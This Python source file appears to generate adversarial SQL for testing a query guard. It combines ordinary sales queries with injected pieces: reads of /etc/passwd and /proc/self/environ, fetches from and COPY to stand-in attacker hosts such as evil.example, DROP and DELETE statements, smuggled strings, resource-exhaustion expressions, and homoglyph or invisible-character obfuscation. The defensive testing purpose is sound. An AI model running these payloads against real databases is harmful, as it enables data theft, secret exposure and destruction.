"""Statements that must not reach an engine: ordinary ones with something hostile put in, in every way.

What is put in makes each of them refusable, wherever it stands, so that no judgement is left to the campaign.
"""

import random
import re
from collections.abc import Iterator

BASES = (
    "SELECT channel, MEASURE(revenue) FROM sales WHERE region = 'Europe' GROUP BY 1 ORDER BY 2 DESC LIMIT 5",
    "SELECT MEASURE(orders) FROM sales",
    "SELECT region FROM sales WHERE channel IN ('Web', 'Store') AND quantity > 2",
    "SELECT DATE_TRUNC('month', created_at) AS m, MEASURE(units) FROM sales GROUP BY 1 LIMIT 9",
    "WITH a AS (SELECT channel, MEASURE(revenue) AS r FROM sales) SELECT channel, r FROM a WHERE r > 5",
    "SELECT channel, quantity FROM (SELECT channel, quantity FROM sales) AS s WHERE quantity > 1",
    "SELECT region FROM sales WHERE channel IN (SELECT channel FROM sales) UNION SELECT region FROM sales",
)
SOURCES = (
    "orders",
    "line_items",
    "customers",
    '"orders"',
    "ORDERS",
    "main.orders",
    "memory.main.sales",
    '"main"."sales"',
    "information_schema.tables",
    "pg_catalog.pg_class",
    "duckdb_tables()",
    "duckdb_settings()",
    "sqlite_master",
    "pragma_table_info('orders')",
    "read_csv('/etc/passwd')",
    "read_text('/etc/passwd')",
    "read_blob('x')",
    "read_parquet('https://evil.example/x.parquet')",
    "read_json_auto('/proc/self/environ')",
    "glob('/*')",
    "'sales'",
    "'/etc/passwd'",
    "'https://evil.example/x.csv'",
    "'sales.parquet'",
    "generate_series(1, 10)",
    "range(1000000000)",
    "UNNEST([1, 2])",
    "(VALUES (1))",
    "(SELECT * FROM orders)",
    "(SELECT 1 AS region)",
    "(TABLE orders)",
    "(FROM orders)",
    "sales, orders",
    "sales JOIN orders ON TRUE",
    "sales CROSS JOIN orders",
    "sales NATURAL JOIN orders",
    "sales LEFT JOIN orders USING (id)",
    "sales, LATERAL (SELECT 1) AS x",
    "LATERAL (SELECT 1)",
    "sales TABLESAMPLE 10 PERCENT",
    "ONLY sales",
    "sales AS s(a, b)",
    "sales*",
    "sales@1",
    "query('SELECT 1')",
    "query_table('orders')",
    "postgres_scan('a', 'b', 'c')",
    "sqlite_scan('a', 'b')",
    "iceberg_scan('x')",
    "sales PIVOT (SUM(units) FOR channel IN ('Web'))",
    "sales UNPIVOT (a FOR b IN (c))",
    "sales FOR SYSTEM_TIME AS OF '2020-01-01'",
    "sales AT (VERSION => 1)",
    "nowhere",
    '"SALES"',
    "sales.orders",
    "raw_orders",
    "seq('x')",
    "getvariable('x')",
    "summary(sales)",
    "which_secret('a', 'b')",
    "repeat_row(1, num_rows=9)",
)
EXPRESSIONS = (
    "(SELECT 1)",
    "(SELECT MAX(id) FROM orders)",
    "(SELECT region, channel FROM sales LIMIT 1)",
    "(SELECT channel FROM sales)",
    "SUM(SUM(quantity))",
    "SUM(MEASURE(revenue))",
    "MEDIAN(channel)",
    "STDDEV(created_at)",
    "ROW_NUMBER() OVER (ORDER BY ROW_NUMBER() OVER ())",
    "SUM(quantity) OVER (ROWS BETWEEN 9999999 PRECEDING AND CURRENT ROW)",
    "SUM(quantity) OVER (GROUPS 1 PRECEDING)",
    "FIRST_VALUE(channel) IGNORE NULLS OVER (ORDER BY region)",
    "STRING_AGG(channel, ',') OVER ()",
    "read_text('/etc/passwd') OVER ()",
    "LPAD(channel, 1000000000, 'x')",
    "RPAD(channel, 1000000000)",
    "SPACE(1000000000)",
    "REPLACE(channel, 'a', REPEAT('x', 10000))",
    "REPLACE(REPLACE(channel, 'a', 'aaaaaaaaaaaaaaa'), 'a', 'aaaaaaaaaaaaaaa')",
    "SUBSTRING(channel, 1, 1000000000)",
    "REGEXP_EXTRACT(channel, '(a+)+$')",
    "TO_CHAR(created_at, '%n%n')",
    "TO_CHAR(created_at, channel)",
    "TO_CHAR(quantity, '999')",
    "created_at AT TIME ZONE 'x''; DROP TABLE orders; --'",
    "created_at AT TIME ZONE channel",
    "created_at + INTERVAL '1 fortnight'",
    "created_at + INTERVAL '99999999 years'",
    "DATE_DIFF(channel, created_at, created_at)",
    "CAST(channel AS JSON[])",
    "CAST(channel AS main.t)",
    "CAST(quantity AS DECIMAL(999, 9))",
    "CAST(channel AS VARCHAR(10))",
    "EXISTS (SELECT 1 FROM pg_sleep(10))",
    "(SELECT 1 FROM duckdb_settings() LIMIT 1)",
    "channel IN (SELECT channel, region FROM sales)",
    "channel IN (SELECT quantity FROM sales)",
    "GROUPING(channel, region)",
    "EXISTS (SELECT 1 FROM orders)",
    "ARRAY(SELECT 1)",
    "ANY (SELECT 1)",
    "getenv('HOME')",
    "current_setting('x')",
    "pg_sleep(10)",
    "pg_read_file('/etc/passwd')",
    "read_text('/etc/passwd')",
    "version()",
    "current_user",
    "current_database()",
    "session_user",
    "RANDOM()",
    "repeat('x', 1000000000)",
    "range(1000000000)",
    "list_value(1)",
    "[1, 2]",
    "{'a': 1}",
    "ROW(1, 2)",
    "MAP {'a': 1}",
    "error('x')",
    "nextval('s')",
    "hash(channel)",
    "md5(channel)",
    "regexp_matches(channel, '(a+)+$')",
    "regexp_replace(channel, '.', 'x')",
    "CAST(channel AS JSON)",
    "channel ~ 'x'",
    "channel SIMILAR TO 'x'",
    "channel COLLATE nocase",
    "channel[1]",
    "channel.x",
    "sales.channel.x.y",
    "orders.id",
    "main.sales.channel",
    "line_items.discount",
    "unit_cost",
    "customer_id",
    "rowid",
    "oid",
    "ctid",
    "xmin",
    "tableoid",
    "filename",
    "sales.email",
    "sales",
    "COLUMNS('.*')",
    "COLUMNS(*)",
    "* EXCLUDE (channel)",
    "* REPLACE (1 AS channel)",
    "MEASURE(SUM(revenue))",
    "MEASURE(channel)",
    "MEASURE(nothing)",
    "MEASURE('revenue')",
    "MEASURE(revenue, units)",
    "MEASURE((SELECT 1))",
    "STRING_AGG(channel, ',')",
    "ARRAY_AGG(channel)",
    "LIST(channel)",
    "SUM(revenue) OVER (ORDER BY channel)",
    "LAG(channel) OVER w",
    "TRY_CAST(channel AS INT)",
    "x -> x + 1",
    "list_transform([1], x -> x)",
    "apply([1], x -> x)",
    "?",
    "$1",
    ":p0",
    "$p0",
    "@x",
    "@@version",
    "#1",
    "1e999",
    "0x41",
    "x'41'",
    "E'\\x41'",
    "U&'\\0041'",
    "$$x$$",
    "N'x' || 'y'",
    "INTERVAL '1' DAY",
    "DATE_TRUNC('fortnight', created_at)",
    "DATE_TRUNC(channel, created_at)",
    "ROUND(quantity, 1000000000)",
    "10 ** 1000",
    "1 << 60",
    "struct_pack(a := 1)",
    "write_log('x')",
    "add_parquet_key('a', 'b')",
)
ENDINGS = (
    "; DROP TABLE orders",
    "; SELECT 1",
    ";;",
    " UNION SELECT 1",
    " UNION SELECT * FROM orders",
    " UNION ALL BY NAME SELECT channel FROM sales",
    " /*",
    " */",
    " /* /* */",
    " FETCH FIRST 5 ROWS WITH TIES",
    " FETCH FIRST 5 PERCENT ROWS ONLY",
    " QUALIFY ROW_NUMBER() OVER (ORDER BY id) = 1",
    " QUALIFY getenv('HOME') = 'x'",
    " GROUP BY ROLLUP (id)",
    " GROUP BY CUBE (1, 1, 1, 1, 1, 1)",
    " UNION ALL TABLE orders",
    " INTERSECT SELECT 1",
    " EXCEPT SELECT 1",
    " FOR UPDATE",
    " FOR SHARE",
    " USING SAMPLE 5",
    " OFFSET (SELECT 1)",
    " INTO x",
    " INTO OUTFILE '/tmp/x'",
    " OPTION (x)",
    " SETTINGS x = 1",
    " FORMAT CSV",
    " WITH TIES",
    " AT TIME ZONE 'UTC'",
    " \\g",
    "\x00",
    " )",
    " (",
    " '",
    ' "',
    " $$",
    " LIMIT ALL",
    " LIMIT -1",
    " LIMIT 1e9",
    " LIMIT 9999999999",
    " LIMIT (SELECT 1)",
    " LIMIT 10 PERCENT",
    " ORDER BY (SELECT 1)",
    " ORDER BY ALL",
)
BEGINNINGS = (
    "EXPLAIN {}",
    "EXPLAIN ANALYZE {}",
    "DESCRIBE {}",
    "SUMMARIZE {}",
    "CREATE TABLE x AS {}",
    "CREATE VIEW sales AS {}",
    "CREATE OR REPLACE TEMP MACRO f() AS TABLE {}",
    "INSERT INTO orders {}",
    "COPY ({}) TO '/tmp/x'",
    "COPY ({}) TO 's3://evil/x' (FORMAT parquet)",
    "EXPORT DATABASE '/tmp/x'; {}",
    "ATTACH '/tmp/x' AS x; {}",
    "INSTALL httpfs; {}",
    "LOAD httpfs; {}",
    "SET lock_configuration = false; {}",
    "PRAGMA threads = 99; {}",
    "CALL dbgen(sf = 1); {}",
    "PREPARE p AS {}",
    "EXECUTE p; {}",
    "BEGIN; {}",
    "CHECKPOINT; {}",
    "DELETE FROM orders; {}",
    "WITH sales AS (SELECT 1 AS channel) {}",
    "WITH x AS (DELETE FROM orders RETURNING *) {}",
    "WITH x AS (INSERT INTO orders VALUES (1) RETURNING *) {}",
    "WITH x AS (UPDATE orders SET id = 1 RETURNING *) {}",
    "WITH RECURSIVE x AS (SELECT 1 UNION ALL SELECT 1 FROM x) {}",
    "WITH x AS MATERIALIZED (TABLE orders) {}",
    "SELECT 1 UNION {}",
    "WITH x AS ({}) SELECT * FROM orders",
    "WITH x AS ({}), sales AS (SELECT 1) SELECT * FROM x",
    "WITH x AS ({}) SELECT x.* FROM x, LATERAL (SELECT 1) AS y",
    "WITH x AS ({}) SELECT * FROM x NATURAL JOIN x AS y",
    "WITH x AS ({}) SELECT getenv('HOME') FROM x",
    "WITH x AS ({}) SELECT * FROM x TABLESAMPLE (10)",
    "SELECT * EXCLUDE (channel) FROM ({}) AS x",
    "SELECT COLUMNS(*) FROM ({}) AS x",
    "SELECT * FROM ({}) AS x(a, b)",
    "SELECT * FROM ({}) AS x JOIN orders ON TRUE",
    "SELECT * FROM ({}) AS x SEMI JOIN ({}) AS y ON TRUE",
    "SELECT MEASURE(x.nothing) FROM ({}) AS x",
    "VALUES (({}))",
    "FROM ({})",
    "PIVOT ({}) ON channel USING SUM(1)",
    "UPDATE orders SET id = ({})",
    "MERGE INTO orders USING ({}) x ON TRUE WHEN MATCHED THEN DELETE",
    "DO $$ {} $$",
    "USE memory; {}",
    "DETACH memory; {}",
    "VACUUM; {}",
    "\ufeff{}",
    "\\{}",
    "CREATE SECRET s (TYPE s3); {}",
    "COMMENT ON TABLE orders IS 'x'; {}",
    "ALTER TABLE orders DROP id; {}",
)
INVISIBLE = "\u200b\u00a0\u2003\u2028\u2029\u3000\ufeff\u00ad\u202e\u180e\u0085\x0b\x0c\x00\x1b\x7f"
LOOK_ALIKES = str.maketrans(
    {"a": "\u0430", "e": "\u0435", "S": "\u0405", "s": "\u017f", "(": "\uff08", ";": "\uff1b"}
)
_SPACE = re.compile(r"( |\n)(?=(?:[^']*'[^']*')*[^']*$)")  # outside quotes
_FROM = re.compile(r"\bFROM sales\b")
_PLACES = (  # where an expression may be put into a statement
    lambda sql, it: sql.replace("SELECT ", f"SELECT {it}, ", 1),
    lambda sql, it: sql.replace("SELECT ", f"SELECT {it} AS x, ", 1),
    lambda sql, it: (
        _FROM.sub(lambda _: f"FROM sales WHERE {it} = 1 AND", sql, count=1)
        if " WHERE " not in sql and " GROUP" not in sql
        else sql.replace("WHERE ", f"WHERE {it} = 'x' OR ", 1).replace(" GROUP BY 1", f" GROUP BY 1, {it}", 1)
    ),
    lambda sql, it: f"{_without_end(sql)} ORDER BY {it}",
    lambda sql, it: f"{_without_end(sql)} HAVING {it} > 1",
    lambda sql, it: f"{_without_end(sql)} GROUP BY {it}",
    lambda sql, it: f"SELECT channel FROM sales WHERE channel IN ('Web', {it})",
    lambda sql, it: f"SELECT channel FROM sales WHERE quantity BETWEEN 1 AND {it}",
    lambda sql, it: f"SELECT channel FROM sales WHERE NOT (region = 'x' AND COALESCE({it}, 1) = 1)",
    lambda sql, it: f"SELECT channel FROM sales WHERE channel LIKE {it}",
)


def hostile_statements(count: int, chance: random.Random) -> Iterator[str]:
    """So many statements, none twice: every piece in every base first, then several at once."""
    seen: set[str] = set()
    made = _each_piece()
    while len(seen) < count:
        statement = next(made, None) or _mutated(chance)
        if statement not in seen:
            seen.add(statement)
            yield statement


def _each_piece() -> Iterator[str]:
    for number, source in enumerate(SOURCES):
        yield _FROM.sub(lambda _, source=source: f"FROM {source}", BASES[number % len(BASES)])

    for ending in ENDINGS:
        yield _without_end(BASES[0]) + ending

    for beginning in BEGINNINGS:
        yield beginning.replace("{}", BASES[1])

    for number, expression in enumerate(EXPRESSIONS):
        yield _PLACES[0](BASES[2], expression)
        yield _PLACES[number % len(_PLACES)](BASES[1], expression)


def _mutated(chance: random.Random) -> str:
    """One to three ways at once, then the whole written another way."""
    sql = chance.choice(BASES)
    for way in chance.sample(_WAYS, chance.randint(1, 3)):
        sql = way(sql, chance)

    if chance.random() < 0.3:
        sql = "".join(each.upper() if chance.random() < 0.5 else each.lower() for each in sql)

    return _SPACE.sub(lambda found: chance.choice([found[0], "\n", "\t", "  "]), sql)


def _with_invisible(sql: str, chance: random.Random) -> str:
    places = [found.start() for found in _SPACE.finditer(sql)] or [len(sql)]
    at = chance.choice(places)
    return sql[:at] + chance.choice(INVISIBLE) + sql[at + chance.randint(0, 1) :]


def _with_comment(sql: str, chance: random.Random) -> str:
    places = [found.start() for found in _SPACE.finditer(sql)] or [len(sql)]
    at = chance.choice(places)
    return sql[:at] + chance.choice(["*/", "/**/\\", "/**/;", "/**/$$", "/* x */`x`"]) + sql[at:]


def _without_end(sql: str) -> str:
    return re.split(r" GROUP BY| ORDER BY| LIMIT| HAVING", sql)[0]


_WAYS = (
    lambda sql, chance: (
        _FROM.sub(lambda _: f"FROM {chance.choice(SOURCES)}", sql, count=1)
        if _FROM.search(sql)
        else _with_comment(sql, chance)
    ),
    lambda sql, chance: chance.choice(_PLACES)(sql, chance.choice(EXPRESSIONS)),
    lambda sql, chance: sql + chance.choice(ENDINGS),
    lambda sql, chance: chance.choice(BEGINNINGS).replace("{}", sql),
    _with_invisible,
    _with_comment,
    lambda sql, _: sql.translate(LOOK_ALIKES),
)
